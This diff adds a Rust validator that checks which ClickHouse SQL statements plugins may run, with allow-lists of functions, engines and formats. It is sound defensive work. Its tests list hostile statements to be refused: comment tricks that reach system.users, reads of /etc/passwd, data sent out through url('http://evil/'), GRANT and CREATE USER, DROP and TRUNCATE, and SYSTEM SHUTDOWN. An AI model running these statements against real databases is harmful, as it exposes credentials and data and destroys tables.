@@ -1,0 +1,710 @@
+//! What a plugin may send to ClickHouse through `clickhouse.execute`: deny by default, decided
+//! on a parse tree (sqlparser's ClickHouse dialect), never on the text.
+//!
+//! A statement is allowed only when all of this holds:
+//! - the text has no comment markers (`--`, `/*`, `*/`, `#`), no `;`, no `$`, no control
+//!   characters: the places where two SQL lexers (sqlparser's and ClickHouse's) could disagree
+//!   about what is code;
+//! - it parses, as exactly one statement, of a kind a sink needs: `SELECT` (with `UNION`),
+//!   `CREATE DATABASE [IF NOT EXISTS] db`, `CREATE TABLE [IF NOT EXISTS] db.t (...) ENGINE = ...`;
+//!   rows are written with `insert-json-rows`, whose INSERT the host builds itself;
+//! - every table is `database.table`, and the database is granted (never `system` or
+//!   `information_schema`, granted or not);
+//! - no table functions (`remote`, `url`, `file`, `merge`, ...), no `IN <table>`, no
+//!   `GLOBAL IN`, no CTEs, no `SETTINGS`, no `INTO`; `IN (...)` lists hold constants only;
+//! - every function is on [`FUNCTIONS`], every table engine on [`ENGINES`], every `FORMAT`
+//!   on [`FORMATS`].
+//!
+//! One exception to "what sqlparser parses": it does not know ClickHouse's `DateTime('zone')`
+//! column type, so in `CREATE TABLE` the token sequence `DateTime ( '<zone name>' )` is checked
+//! as plain `DateTime` (the zone must be a plain zone name: letters, digits, `/_+-`).
+
+use std::ops::ControlFlow;
+
+use sqlparser::ast::{
+    ColumnOption, CreateTableOptions, Expr, FormatClause, Function, InTarget, ObjectName,
+    ObjectNamePart, Query, Select, SetExpr, SqlOption, Statement, TableFactor, UnaryOperator,
+    Visit, Visitor,
+};
+use sqlparser::dialect::ClickHouseDialect;
+use sqlparser::parser::Parser;
+use sqlparser::tokenizer::{Token, TokenWithSpan, Tokenizer};
+
+use crate::config::ClickHouseGrant;
+
+/// Longest statement accepted (the clickhouse plugin's id lookups stay far below).
+pub const MAX_SQL_BYTES: usize = 1 << 20;
+
+/// Never reachable, whatever a grant says.
+const FORBIDDEN_DATABASES: &[&str] = &["system", "information_schema", "INFORMATION_SCHEMA"];
+
+/// Functions a sink's statements may call: pure computations on the row at hand. Functions
+/// that read other tables, files, URLs, dictionaries, settings or server state are absent
+/// (`joinGet`, `dictGet*`, `file`, `url`, `hasColumnInTable`, `getSetting`, ...). Compared
+/// case-insensitively.
+#[rustfmt::skip]
+pub const FUNCTIONS: &[&str] = &[
+    // aggregates
+    "count", "sum", "avg", "min", "max", "any", "anyLast", "argMin", "argMax", "uniq",
+    "uniqExact", "uniqCombined", "groupArray", "groupUniqArray", "quantile", "quantiles",
+    "quantileExact", "median", "topK", "countIf", "sumIf", "avgIf", "minIf", "maxIf",
+    "uniqIf", "uniqExactIf", "anyIf", "argMaxIf", "argMinIf", "groupArrayIf",
+    // conditionals and NULLs
+    "if", "multiIf", "ifNull", "isNull", "isNotNull", "coalesce", "nullIf", "assumeNotNull",
+    "toNullable",
+    // conversions
+    "toInt8", "toInt16", "toInt32", "toInt64", "toUInt8", "toUInt16", "toUInt32", "toUInt64",
+    "toFloat32", "toFloat64", "toDecimal32", "toDecimal64", "toString", "toDate",
+    "toDateTime", "toUnixTimestamp", "parseDateTimeBestEffort", "toTypeName",
+    // dates
+    "now", "today", "yesterday", "toYear", "toMonth", "toDayOfMonth", "toHour", "toMinute",
+    "toYYYYMM", "toYYYYMMDD", "toStartOfMinute", "toStartOfFiveMinute",
+    "toStartOfFifteenMinutes", "toStartOfHour", "toStartOfDay", "toStartOfMonth",
+    "toMonday", "addSeconds", "addMinutes", "addHours", "addDays", "subtractSeconds",
+    "subtractMinutes", "subtractHours", "subtractDays", "dateDiff", "formatDateTime",
+    // arithmetic, comparison, logic
+    "plus", "minus", "multiply", "divide", "intDiv", "modulo", "negate", "abs", "round",
+    "floor", "ceil", "greatest", "least", "equals", "notEquals", "less", "greater",
+    "lessOrEquals", "greaterOrEquals", "and", "or", "not", "xor", "sqrt", "exp", "log",
+    "pow", "cityHash64", "sipHash64",
+    // strings, arrays, tuples
+    "length", "lower", "upper", "concat", "substring", "trim", "startsWith", "endsWith",
+    "position", "like", "notLike", "replaceAll", "tuple", "tupleElement", "array", "has",
+    "arrayJoin", "arrayElement", "arrayMap", "arrayFilter", "arraySort", "empty", "notEmpty",
+];
+
+/// Table engines a sink may create: local storage only. `Distributed`, `Merge`, `Buffer`,
+/// `URL`, `File`, `MySQL`, `JDBC`, `Kafka`, `Dictionary`, ... reach other tables or machines.
+pub const ENGINES: &[&str] = &[
+    "MergeTree",
+    "ReplacingMergeTree",
+    "SummingMergeTree",
+    "AggregatingMergeTree",
+    "CollapsingMergeTree",
+    "VersionedCollapsingMergeTree",
+    "Memory",
+    "Log",
+    "TinyLog",
+    "StripeLog",
+];
+
+/// Output formats of `SELECT ... FORMAT x`.
+pub const FORMATS: &[&str] = &[
+    "TabSeparated",
+    "TSV",
+    "TabSeparatedWithNames",
+    "TSVWithNames",
+    "TabSeparatedRaw",
+    "CSV",
+    "CSVWithNames",
+    "JSON",
+    "JSONCompact",
+    "JSONEachRow",
+    "Values",
+];
+
+/// Checks one statement a plugin wants `clickhouse.execute` to run. Err carries the reason
+/// given to the plugin (`not-granted`).
+pub fn check_statement(sql: &str, grant: &ClickHouseGrant) -> Result<(), String> {
+    screen_text(sql)?;
+    let statement = parse_one(sql)?;
+    match &statement {
+        Statement::Query(_) => {}
+        Statement::CreateDatabase {
+            db_name,
+            if_not_exists,
+            ..
+        } => {
+            let name = one_part(db_name)?;
+            check_database(grant, &name)?;
+            // Nothing but the name and IF NOT EXISTS: no ENGINE, clone or location.
+            let plain = format!(
+                "CREATE DATABASE {}{db_name}",
+                if *if_not_exists { "IF NOT EXISTS " } else { "" }
+            );
+            if statement.to_string() != plain {
+                return Err(format!(
+                    "CREATE DATABASE may only name the database: `{statement}`"
+                ));
+            }
+        }
+        Statement::CreateTable(ct) => {
+            check_table_name(grant, &ct.name)?;
+            check_engine(&ct.table_options)?;
+            for column in &ct.columns {
+                for option in &column.options {
+                    match &option.option {
+                        ColumnOption::Null
+                        | ColumnOption::NotNull
+                        | ColumnOption::Default(_)
+                        | ColumnOption::Materialized(_)
+                        | ColumnOption::Alias(_)
+                        | ColumnOption::Comment(_) => {}
+                        other => {
+                            return Err(format!(
+                                "column option `{other}` of `{}` is not available to plugins",
+                                column.name
+                            ))
+                        }
+                    }
+                }
+            }
+            // Anything beyond columns, engine and keys (AS SELECT, AS other_table, CLONE,
+            // ON CLUSTER, ...) changes the rendering of the rebuilt statement.
+            let kept = sqlparser::ast::helpers::stmt_create_table::CreateTableBuilder::new(
+                ct.name.clone(),
+            )
+            .if_not_exists(ct.if_not_exists)
+            .columns(ct.columns.clone())
+            .table_options(ct.table_options.clone())
+            .order_by(ct.order_by.clone())
+            .partition_by(ct.partition_by.clone())
+            .primary_key(ct.primary_key.clone())
+            .build();
+            if Statement::CreateTable(kept).to_string() != statement.to_string() {
+                return Err(format!(
+                    "CREATE TABLE may only have columns, ENGINE, PARTITION BY, ORDER BY and \
+                     PRIMARY KEY: `{statement}`"
+                ));
+            }
+        }
+        other => {
+            return Err(format!(
+                "`{}` statements are not available to plugins (allowed: SELECT, CREATE \
+                 DATABASE, CREATE TABLE; rows go through insert-json-rows)",
+                statement_kind(other)
+            ))
+        }
+    }
+    match statement.visit(&mut Checker { grant }) {
+        ControlFlow::Continue(()) => Ok(()),
+        ControlFlow::Break(reason) => Err(reason),
+    }
+}
+
+/// The database and table of `insert-json-rows`: plain identifiers, the database granted. The
+/// host builds the INSERT from them, so nothing else of the plugin's reaches the SQL.
+pub fn check_insert_target(
+    grant: &ClickHouseGrant,
+    database: &str,
+    table: &str,
+) -> Result<(), String> {
+    for name in [database, table] {
+        if !is_plain_identifier(name) {
+            return Err(format!(
+                "`{name}` is not a plain identifier ([A-Za-z_][A-Za-z0-9_]*)"
+            ));
+        }
+    }
+    check_database(grant, database)
+}
+
+/// A database the grant lists, and never a system one.
+pub fn check_database(grant: &ClickHouseGrant, database: &str) -> Result<(), String> {
+    if FORBIDDEN_DATABASES.contains(&database) {
+        return Err(format!(
+            "database `{database}` is never available to plugins"
+        ));
+    }
+    if grant.databases.iter().any(|d| d == database) {
+        Ok(())
+    } else {
+        Err(format!(
+            "database `{database}` is not granted (granted: {:?})",
+            grant.databases
+        ))
+    }
+}
+
+fn is_plain_identifier(s: &str) -> bool {
+    let mut chars = s.chars();
+    chars
+        .next()
+        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
+        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
+}
+
+/// Refuses text where the two lexers could disagree, before any parsing.
+fn screen_text(sql: &str) -> Result<(), String> {
+    if sql.trim().is_empty() {
+        return Err("empty statement".into());
+    }
+    if sql.len() > MAX_SQL_BYTES {
+        return Err(format!("statement longer than {MAX_SQL_BYTES} bytes"));
+    }
+    if let Some(c) = sql
+        .chars()
+        .find(|c| c.is_control() && !matches!(c, '\n' | '\t' | '\r'))
+    {
+        return Err(format!("control character {c:?} in the statement"));
+    }
+    for marker in ["--", "/*", "*/", "#", ";", "$"] {
+        if sql.contains(marker) {
+            return Err(format!(
+                "`{marker}` is not allowed in statements (no comments, one statement per call)"
+            ));
+        }
+    }
+    Ok(())
+}
+
+fn parse_one(sql: &str) -> Result<Statement, String> {
+    let dialect = ClickHouseDialect {};
+    let tokens = Tokenizer::new(&dialect, sql)
+        .tokenize_with_location()
+        .map_err(|e| format!("cannot parse the statement: {e}"))?;
+    let tokens = drop_datetime_zones(tokens)?;
+    let mut statements = Parser::new(&dialect)
+        .with_tokens_with_locations(tokens)
+        .parse_statements()
+        .map_err(|e| format!("cannot parse the statement: {e}"))?;
+    match statements.len() {
+        1 => Ok(statements.remove(0)),
+        n => Err(format!("one statement per call, got {n}")),
+    }
+}
+
+/// In a CREATE TABLE: `DateTime ( 'zone' )` -> `DateTime`, the zone checked (see module doc).
+fn drop_datetime_zones(tokens: Vec<TokenWithSpan>) -> Result<Vec<TokenWithSpan>, String> {
+    let code: Vec<&Token> = tokens
+        .iter()
+        .map(|t| &t.token)
+        .filter(|t| !matches!(t, Token::Whitespace(_)))
+        .collect();
+    let is_word = |t: Option<&&Token>, w: &str| matches!(t, Some(Token::Word(word)) if word.quote_style.is_none() && word.value.eq_ignore_ascii_case(w));
+    if !(is_word(code.first(), "CREATE") && is_word(code.get(1), "TABLE")) {
+        return Ok(tokens);
+    }
+    let mut out: Vec<TokenWithSpan> = Vec::with_capacity(tokens.len());
+    let mut i = 0;
+    while i < tokens.len() {
+        let is_datetime = matches!(&tokens[i].token, Token::Word(w) if w.quote_style.is_none() && w.value == "DateTime");
+        // Only the compact form the plugin writes: no whitespace inside the parentheses.
+        if is_datetime {
+            if let (
+                Some(Token::LParen),
+                Some(Token::SingleQuotedString(zone)),
+                Some(Token::RParen),
+            ) = (
+                tokens.get(i + 1).map(|t| &t.token),
+                tokens.get(i + 2).map(|t| &t.token),
+                tokens.get(i + 3).map(|t| &t.token),
+            ) {
+                let plain_zone = !zone.is_empty()
+                    && zone
+                        .chars()
+                        .all(|c| c.is_ascii_alphanumeric() || "/_+-".contains(c));
+                if !plain_zone {
+                    return Err(format!("`DateTime('{zone}')`: not a time zone name"));
+                }
+                out.push(tokens[i].clone());
+                i += 4;
+                continue;
+            }
+        }
+        out.push(tokens[i].clone());
+        i += 1;
+    }
+    Ok(out)
+}
+
+fn statement_kind(statement: &Statement) -> String {
+    let text = statement.to_string();
+    text.split_whitespace()
+        .take(2)
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+fn one_part(name: &ObjectName) -> Result<String, String> {
+    match name.0.as_slice() {
+        [ObjectNamePart::Identifier(id)] => Ok(id.value.clone()),
+        _ => Err(format!("`{name}` must be a single database name")),
+    }
+}
+
+/// `database.table` with a granted database.
+fn check_table_name(grant: &ClickHouseGrant, name: &ObjectName) -> Result<(), String> {
+    match name.0.as_slice() {
+        [ObjectNamePart::Identifier(db), ObjectNamePart::Identifier(_)] => {
+            check_database(grant, &db.value)
+        }
+        _ => Err(format!(
+            "table `{name}` must be written `database.table` with a granted database"
+        )),
+    }
+}
+
+/// Exactly one option, `ENGINE = <allowed engine>[(args)]`.
+fn check_engine(options: &CreateTableOptions) -> Result<(), String> {
+    let list = match options {
+        CreateTableOptions::Plain(list) | CreateTableOptions::TableProperties(list) => list,
+        CreateTableOptions::None => return Err("CREATE TABLE needs an ENGINE".into()),
+        other => {
+            return Err(format!(
+                "table options `{other}` are not available to plugins"
+            ))
+        }
+    };
+    match list.as_slice() {
+        [SqlOption::NamedParenthesizedList(engine)]
+            if engine.key.value.eq_ignore_ascii_case("ENGINE") =>
+        {
+            let name = engine.name.as_ref().map(|n| n.value.as_str()).unwrap_or("");
+            if ENGINES.contains(&name) {
+                Ok(())
+            } else {
+                Err(format!(
+                    "table engine `{name}` is not available to plugins (allowed: {ENGINES:?})"
+                ))
+            }
+        }
+        _ => Err(format!(
+            "CREATE TABLE may have the ENGINE option only, got `{}`",
+            list.iter()
+                .map(ToString::to_string)
+                .collect::<Vec<_>>()
+                .join(" ")
+        )),
+    }
+}
+
+/// A literal, possibly negated, or a tuple of them: what `IN (...)` may list.
+fn is_constant(e: &Expr) -> bool {
+    match e {
+        Expr::Value(_) => true,
+        Expr::UnaryOp {
+            op: UnaryOperator::Minus | UnaryOperator::Plus,
+            expr,
+        } => is_constant(expr),
+        Expr::Nested(inner) => is_constant(inner),
+        Expr::Tuple(items) => items.iter().all(is_constant),
+        _ => false,
+    }
+}
+
+/// Walks the whole tree: every table, expression and (sub)query of the statement.
+struct Checker<'a> {
+    grant: &'a ClickHouseGrant,
+}
+
+impl Checker<'_> {
+    fn function(&self, f: &Function) -> ControlFlow<String> {
+        let name = match f.name.0.as_slice() {
+            [ObjectNamePart::Identifier(id)] => id.value.as_str(),
+            _ => return ControlFlow::Break(format!("function `{}` is not available", f.name)),
+        };
+        if FUNCTIONS.iter().any(|a| a.eq_ignore_ascii_case(name)) {
+            ControlFlow::Continue(())
+        } else {
+            ControlFlow::Break(format!(
+                "function `{name}` is not available to plugins (see the allow-list in \
+                 host/src/plugin/clickhouse_sql.rs)"
+            ))
+        }
+    }
+}
+
+fn refuse(reason: impl Into<String>) -> ControlFlow<String> {
+    ControlFlow::Break(reason.into())
+}
+
+impl Visitor for Checker<'_> {
+    type Break = String;
+
+    fn pre_visit_query(&mut self, q: &Query) -> ControlFlow<String> {
+        if q.with.is_some() {
+            return refuse("WITH (common table expressions) is not available to plugins");
+        }
+        if q.settings.is_some() {
+            return refuse("SETTINGS is not available to plugins");
+        }
+        if q.for_clause.is_some() || !q.locks.is_empty() || !q.pipe_operators.is_empty() {
+            return refuse(format!("`{q}`: clause not available to plugins"));
+        }
+        match &q.format_clause {
+            None => {}
+            Some(FormatClause::Identifier(f)) if FORMATS.contains(&f.value.as_str()) => {}
+            Some(other) => return refuse(format!("`{other}` is not available to plugins")),
+        }
+        if !matches!(
+            q.body.as_ref(),
+            SetExpr::Select(_) | SetExpr::Query(_) | SetExpr::SetOperation { .. }
+        ) {
+            return refuse(format!("`{}` is not available to plugins", q.body));
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_select(&mut self, s: &Select) -> ControlFlow<String> {
+        if s.into.is_some() {
+            return refuse("SELECT ... INTO is not available to plugins");
+        }
+        ControlFlow::Continue(())
+    }
+
+    fn pre_visit_table_factor(&mut self, t: &TableFactor) -> ControlFlow<String> {
+        match t {
+            TableFactor::Table {
+                name,
+                args,
+                with_hints,
+                version,
+                partitions,
+                json_path,
+                ..
+            } => {
+                if args.is_some() {
+                    return refuse(format!(
+                        "table function `{name}(...)` is not available to plugins"
+                    ));
+                }
+                if !with_hints.is_empty()
+                    || version.is_some()
+                    || !partitions.is_empty()
+                    || json_path.is_some()
+                {
+                    return refuse(format!("`{t}` is not available to plugins"));
+                }
+                match check_table_name(self.grant, name) {
+                    Ok(()) => ControlFlow::Continue(()),
+                    Err(e) => ControlFlow::Break(e),
+                }
+            }
+            TableFactor::Derived { .. } | TableFactor::NestedJoin { .. } => {
+                ControlFlow::Continue(())
+            }
+            other => refuse(format!("`{other}` is not available to plugins")),
+        }
+    }
+
+    /// Every name sqlparser reads as a table (FROM, JOIN, `IN table`, ...), belt and braces.
+    fn pre_visit_relation(&mut self, name: &ObjectName) -> ControlFlow<String> {
+        match check_table_name(self.grant, name) {
+            Ok(()) => ControlFlow::Continue(()),
+            Err(e) => ControlFlow::Break(e),
+        }
+    }
+
+    fn pre_visit_expr(&mut self, e: &Expr) -> ControlFlow<String> {
+        match e {
+            Expr::Function(f) => self.function(f),
+            Expr::In { global: true, .. } => refuse("GLOBAL IN is not available to plugins"),
+            Expr::In { target, .. } => match target {
+                InTarget::List(items) if items.iter().all(is_constant) => ControlFlow::Continue(()),
+                InTarget::List(_) => refuse(format!(
+                    "`{e}`: IN lists may hold constants only (IN <table> is not available)"
+                )),
+                InTarget::Subquery(_) => ControlFlow::Continue(()),
+                other => refuse(format!("`IN {other}` is not available to plugins")),
+            },
+            Expr::CompoundIdentifier(parts) if parts.len() > 2 => refuse(format!(
+                "`{e}`: database.table.column references are not available to plugins"
+            )),
+            _ => ControlFlow::Continue(()),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn grant(dbs: &[&str]) -> ClickHouseGrant {
+        ClickHouseGrant {
+            databases: dbs.iter().map(|d| d.to_string()).collect(),
+        }
+    }
+
+    fn check(sql: &str) -> Result<(), String> {
+        check_statement(sql, &grant(&["engagement", "db1"]))
+    }
+
+    /// Config::ddl() and Config::lookup_sql() of plugins/clickhouse, verbatim (the plugin is
+    /// a wasm crate of another workspace; its own tests pin the same text).
+    fn plugin_statements() -> Vec<String> {
+        vec![
+            "CREATE DATABASE IF NOT EXISTS `engagement`".to_string(),
+            "CREATE TABLE IF NOT EXISTS `engagement`.`events_enriched` (\n\
+             \x20   event_id Int64,\n\
+             \x20   content_id Nullable(Int64),\n\
+             \x20   user_id Nullable(Int64),\n\
+             \x20   event_type Nullable(String),\n\
+             \x20   event_ts DateTime('UTC'),\n\
+             \x20   duration_ms Nullable(Int32),\n\
+             \x20   device Nullable(String),\n\
+             \x20   content_type Nullable(String),\n\
+             \x20   length_seconds Nullable(Int32),\n\
+             \x20   engagement_seconds Nullable(Float64),\n\
+             \x20   engagement_pct Nullable(Float64)\n\
+             ) ENGINE = ReplacingMergeTree() ORDER BY event_id PARTITION BY toYYYYMM(event_ts)"
+                .to_string(),
+            "SELECT DISTINCT event_id FROM `engagement`.`events_enriched` WHERE event_id IN \
+             (1,2,-3) FORMAT TabSeparated"
+                .to_string(),
+        ]
+    }
+
+    #[test]
+    fn the_default_plugins_statements_pass() {
+        for sql in plugin_statements() {
+            assert_eq!(check(&sql), Ok(()), "{sql}");
+        }
+    }
+
+    #[test]
+    fn ordinary_sink_statements_pass() {
+        for sql in [
+            "SELECT content_id, avg(engagement_pct) FROM engagement.events_enriched GROUP BY content_id",
+            "SELECT count(), uniqExact(event_id) FROM engagement.events_enriched FINAL",
+            "SELECT 1",
+            "SELECT a.x FROM engagement.a AS a JOIN db1.b AS b ON a.x = b.x WHERE b.y > 2 LIMIT 10",
+            "SELECT x FROM engagement.t WHERE x IN (SELECT x FROM db1.u)",
+            "SELECT x FROM engagement.t UNION ALL SELECT x FROM db1.u",
+            "SELECT quantile(0.9)(engagement_pct) FROM engagement.events_enriched",
+            "SELECT if(isNull(x), 0, x) FROM (SELECT x FROM engagement.t)",
+            "CREATE DATABASE db1",
+            "CREATE TABLE db1.t (id UInt64, s String DEFAULT 'a', ts DateTime('Europe/Paris')) ENGINE = MergeTree() ORDER BY id",
+            "CREATE TABLE db1.t (id UInt64) ENGINE = Memory",
+        ] {
+            assert_eq!(check(sql), Ok(()), "{sql}");
+        }
+    }
+
+    /// The 26 bypasses of issue 9 against the lexical check, and relatives.
+    #[test]
+    fn hostile_statements_are_refused() {
+        let hostile = [
+            // comments hiding code from a lexer
+            "SELECT * FROM engagement.t -- '\nsystem.users -- '",
+            "SELECT * FROM -- '\nsystem.users -- '",
+            "SELECT * FROM system/**/.users",
+            "SELECT * FROM engagement.t # '\n, system.users",
+            // other databases, system ones, unqualified names
+            "SELECT * FROM system.users",
+            "SELECT * FROM system.tables",
+            "SELECT * FROM `system`.`users`",
+            "SELECT * FROM \"system\".\"users\"",
+            "SELECT * FROM users",
+            "SELECT * FROM secret.users",
+            "SELECT * FROM engagement.t JOIN secret.u ON 1 = 1",
+            "SELECT * FROM engagement.t WHERE x IN (SELECT x FROM secret.u)",
+            "SELECT (SELECT max(x) FROM system.processes) FROM engagement.t",
+            "SELECT * FROM (SELECT * FROM system.users)",
+            "SELECT x FROM engagement.t UNION ALL SELECT name FROM system.users",
+            "SELECT system.users.name FROM engagement.t",
+            "SHOW TABLES FROM system",
+            "SHOW DATABASES",
+            "USE system",
+            "DESCRIBE TABLE system.users",
+            // table functions
+            "SELECT * FROM remote('127.0.0.1', system.users)",
+            "SELECT * FROM remote('127.0.0.1', engagement.t)",
+            "SELECT * FROM url('http://evil/', CSV, 'a String')",
+            "SELECT * FROM file('/etc/passwd', CSV, 'a String')",
+            "SELECT * FROM merge('system', '.*')",
+            "SELECT * FROM postgresql('h:5432', 'db', 't', 'u', 'p')",
+            "SELECT * FROM numbers(10)",
+            "SELECT * FROM engagement.t JOIN url('http://evil/', CSV, 'a String') AS u ON 1 = 1",
+            // IN <table>
+            "SELECT 1 FROM engagement.t WHERE x IN system.users",
+            "SELECT 1 FROM engagement.t WHERE x IN users",
+            "SELECT 1 FROM engagement.t WHERE x IN (name)",
+            "SELECT 1 FROM engagement.t WHERE x GLOBAL IN (1, 2)",
+            // data out of the machine, writes
+            "INSERT INTO FUNCTION url('http://evil/', 'CSV', 'a String') VALUES ('a')",
+            "INSERT INTO FUNCTION url('http://evil/', 'CSV', 'a String') SELECT name FROM system.users",
+            "INSERT INTO engagement.t VALUES (1)",
+            "INSERT INTO engagement.t SELECT * FROM system.users",
+            "ALTER TABLE engagement.t DELETE WHERE 1",
+            "DROP TABLE engagement.t",
+            "DROP DATABASE engagement",
+            "TRUNCATE TABLE engagement.t",
+            "RENAME TABLE engagement.t TO secret.t",
+            // access and server control
+            "GRANT ALL ON *.* TO fanout",
+            "REVOKE ALL ON *.* FROM default",
+            "CREATE USER evil IDENTIFIED BY 'x'",
+            "SYSTEM SHUTDOWN",
+            "SYSTEM RELOAD CONFIG",
+            "KILL QUERY WHERE 1",
+            "KILL QUERY WHERE user = 'default'",
+            "SET readonly = 0",
+            "OPTIMIZE TABLE engagement.t FINAL",
+            // several statements
+            "SELECT 1; SELECT * FROM system.users",
+            "SELECT 1;",
+            // functions reaching outside the row
+            "SELECT joinGet('secret.j', 'v', 1)",
+            "SELECT dictGetString('d', 'a', toUInt64(1))",
+            "SELECT file('x')",
+            "SELECT hasColumnInTable('system', 'users', 'name')",
+            "SELECT getSetting('readonly')",
+            "SELECT currentUser()",
+            "SELECT x FROM engagement.t SETTINGS max_memory_usage = 1",
+            "WITH s AS (SELECT name FROM system.users) SELECT * FROM s",
+            // DDL reaching other databases or machines
+            "CREATE DATABASE secret",
+            "CREATE DATABASE IF NOT EXISTS system",
+            "CREATE TABLE secret.t (id UInt64) ENGINE = Memory",
+            "CREATE TABLE t (id UInt64) ENGINE = Memory",
+            "CREATE TABLE engagement.t (id UInt64) ENGINE = Merge(system, '.*')",
+            "CREATE TABLE engagement.t (id UInt64) ENGINE = Distributed(c, system, users)",
+            "CREATE TABLE engagement.t (id UInt64) ENGINE = URL('http://evil/', CSV)",
+            "CREATE TABLE engagement.t (id UInt64) ENGINE = File(CSV)",
+            "CREATE TABLE engagement.t (id UInt64) ENGINE = Buffer(secret, t, 16, 1, 1, 1, 1, 1, 1)",
+            "CREATE TABLE engagement.t AS system.users",
+            "CREATE TABLE engagement.t ENGINE = Memory AS SELECT * FROM system.users",
+            "CREATE TABLE engagement.t (id UInt64 DEFAULT joinGet('secret.j', 'v', 1)) ENGINE = Memory",
+            "CREATE TABLE engagement.t (id UInt64) ENGINE = MergeTree() ORDER BY (SELECT 1 FROM system.users)",
+            "CREATE TABLE engagement.t (ts DateTime('UTC\\' x')) ENGINE = Memory",
+            "CREATE VIEW engagement.v AS SELECT * FROM system.users",
+            "CREATE MATERIALIZED VIEW engagement.v ENGINE = Memory AS SELECT * FROM secret.t",
+            "ATTACH TABLE engagement.t",
+            // garbage
+            "",
+            "   ",
+            "SELEC 1",
+            "SELECT \u{0} FROM engagement.t",
+            "SELECT $$x$$",
+        ];
+        for sql in hostile {
+            let r = check(sql);
+            assert!(r.is_err(), "must be refused: {sql}");
+        }
+    }
+
+    #[test]
+    fn reasons_name_the_problem() {
+        let why = |sql: &str| check(sql).expect_err(sql);
+        assert!(why("SELECT * FROM system.users").contains("`system`"));
+        assert!(why("SELECT * FROM secret.t").contains("not granted"));
+        assert!(why("SELECT * FROM users").contains("database.table"));
+        assert!(why("SELECT * FROM remote('h', system.users)").contains("remote"));
+        assert!(why("SYSTEM SHUTDOWN").contains("cannot parse"));
+        assert!(why("SELECT 1; SELECT 2").contains(";"));
+        assert!(why("SELECT url('x')").contains("function `url`"));
+    }
+
+    #[test]
+    fn insert_targets() {
+        let g = grant(&["engagement"]);
+        assert_eq!(
+            check_insert_target(&g, "engagement", "events_enriched"),
+            Ok(())
+        );
+        for (db, table) in [
+            ("secret", "t"),
+            ("system", "users"),
+            ("engagement", "t FORMAT CSV"),
+            ("engagement", "t`"),
+            ("engagement", ""),
+            ("engagement", "1t"),
+            ("engagement`.`x", "t"),
+        ] {
+            assert!(check_insert_target(&g, db, table).is_err(), "{db}.{table}");
+        }
+        // Not even when granted by mistake.
+        assert!(check_insert_target(&grant(&["system"]), "system", "t").is_err());
+    }
+}
